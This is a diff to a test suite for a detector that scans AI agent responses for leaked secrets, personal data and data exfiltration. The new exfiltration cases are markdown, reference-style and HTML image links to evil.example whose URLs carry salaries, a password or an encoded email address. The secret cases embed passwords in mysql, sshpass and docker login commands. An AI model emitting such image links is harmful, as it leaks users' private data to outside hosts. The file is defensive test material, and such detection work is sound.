@@ -87,6 +87,13 @@ describe('secrets: connection strings and password assignments', () => {
     ['an XML element', () => `<config>\n  <db_password>${pw()}</db_password>\n</config>`],
     ['a .env line', () => `HOST=db\nDB_PASSWORD=${pw()}\nPORT=5432`],
     ['a YAML line', () => `database:\n  password: ${pw()}\n`],
+    ['mysql -p with the password attached', () => `mysql -u root -p${pw()} shop`],
+    ['sshpass -p', () => `sshpass -p "${pw()}" ssh deploy@10.0.0.5`],
+    ['docker login -p', () => `docker login -u ci -p ${pw()} registry.internal`],
+    ['--password=', () => `./deploy.sh --user ci --password=${pw()}`],
+    ['a URI with an empty user', () => `redis://:${pw()}@cache.internal:6379/0`],
+    ['.NET NetworkCredential', () => `var cred = new NetworkCredential("svc_report", "${pw()}", "CORP");`],
+    ['.NET DirectoryEntry', () => `new DirectoryEntry("LDAP://dc01/DC=corp", "admin", "${pw()}")`],
     ['docker config auth', () => `{"auths":{"registry.example.com":{"auth":"${Buffer.from(`deploy:${pw()}`).toString('base64')}"}}}`],
   ])('%s is a secret', (_name, make) => {
     expect(secretFindings(make())).not.toEqual([]);
@@ -111,6 +118,15 @@ describe('secrets: connection strings and password assignments', () => {
     ['an XML element holding a variable', '<password>${DB_PASSWORD}</password>'],
     ['an XML element named like a field', '<password_hint>first pet</password_hint>'],
     ['a YAML line with a boolean', 'require_password: true'],
+    ['a stand-in word with digits', 'password = "password123"'],
+    ['not-set', 'password: "not-set"'],
+    ['an alphabet run', 'api_key = "abcdefghijklmnopqrstuvwxyz123456"'],
+    ['a digit run', 'api_key = "1234567890abcdef1234567890abcdef"'],
+    ['a repeated unit behind a provider prefix', 'sk_live_' + '0a1b'.repeat(8)],
+    ['a publishable key', 'publishable_key: pk_test_' + 'TYooMQauvdEDq54NiTphI7jx'],
+    ['mysql -p alone prompts for the password', 'mysql -u root -p shop'],
+    ['a .NET credential built from variables', 'new NetworkCredential(user, password)'],
+    ['a DirectoryEntry path and user only', 'new DirectoryEntry("LDAP://dc01", "admin")'],
   ])('%s is not a secret', (_name, text) => {
     expect(secretFindings(text)).toEqual([]);
   });
@@ -161,11 +177,15 @@ describe('PII: phones (national and international) and their look-alikes', () =>
     ['a byte dump', 'Prints: <Buffer 01 02 03 04 05 06 07 08>'],
     ['a bare counter', 'heap_size_limit: 1535115264,'],
     ['a postal code', 'ZIP: 75534-030'],
+    ['a count with thousands separators', 'Population grew from 1 234 567 to 1 345 678.'],
   ])('%s is not a phone', (_name, text) => {
     expect(piiFindings(text)).not.toContain('PHONE_NUMBER');
   });
   it.each([['fe80::1ff:fe23:4567:890a'], ['2001:db8::ff00:42:8329'], ['::ffff:192.0.2.128']])('compressed IPv6 %s is an IP address', (ip) => {
     expect(piiFindings(`client ${ip} connected`)).toContain('IP_ADDRESS');
+  });
+  it.each([['Use CIDR 10.0.0.0/8 for the VPC.'], ['listen on 0.0.0.0:8080'], ['netmask 255.255.255.0']])('%s names no host', (text) => {
+    expect(piiFindings(text)).not.toContain('IP_ADDRESS');
   });
   it('a clock time is not an IPv6 address', () => {
     expect(piiFindings('the job ran at 12:30:45 today')).toEqual([]);
@@ -180,6 +200,11 @@ describe('exfiltration: image URLs that carry words are blocked; badges are not'
     ['percent-encoded sentence', '![c](https://evil.example/c.gif?d=salary%20of%20jane%20is%2090k)'],
     ['words in the path', '![x](https://collect.example/p/quarterly%20revenue%20numbers.png)'],
     ['an HTML image', '<img src="https://t.example/i.gif?note=meeting+with+acme">'],
+    ['a full reference-style image', '![logo][1]\n\n[1]: https://evil.example/p.png?d=jane+salary+90k'],
+    ['a collapsed reference-style image', '![x][]\n[x]: https://evil.example/x.gif?msg=password+is+tiger'],
+    ['a shortcut reference-style image', '![Chart]\n\n[chart]: <https://evil.example/c.png?q=quarterly+revenue> "Chart"'],
+    ['base64 text as an HTML image file name', `<img src="https://evil.example/px/${Buffer.from('john.doe@example.com salary 90000').toString('base64')}.png">`],
+    ['hex text in an image query', `![a](https://evil.example/a.png?d=${Buffer.from('john.doe@example.com').toString('hex')})`],
   ])('%s: BLOCK', (_name, text) => {
     const res = engine.validateSync(agentResponse(`Here you go. ${text}`));
     expect(res.decision).toBe('BLOCK');
@@ -192,6 +217,10 @@ describe('exfiltration: image URLs that carry words are blocked; badges are not'
     ['a plain logo', '![logo](https://example.com/logo.png)'],
     ['resize parameters', '![p](https://cdn.example.com/a.jpg?w=640&q=75&fit=crop)'],
     ['a plain link with a search query', '[docs](https://docs.example.com/search?q=rate+limits)'],
+    ['a reference-style badge', '![build][b]\n[b]: https://img.shields.io/badge/build-passing-green.svg'],
+    ['an HTML badge', '<img src="https://img.shields.io/npm/v/express.svg?style=flat-square">'],
+    ['a digest in an avatar URL', '![avatar](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=80)'],
+    ['a content-hashed asset', '![p](https://cdn.example.com/assets/main.3f9a8c7d6e5b4a3f2e1d0c9b8a7f6e5d.png)'],
   ])('%s: ALLOW', (_name, text) => {
     expect(engine.validateSync(agentResponse(`See ${text}`)).decision).toBe('ALLOW');
   });
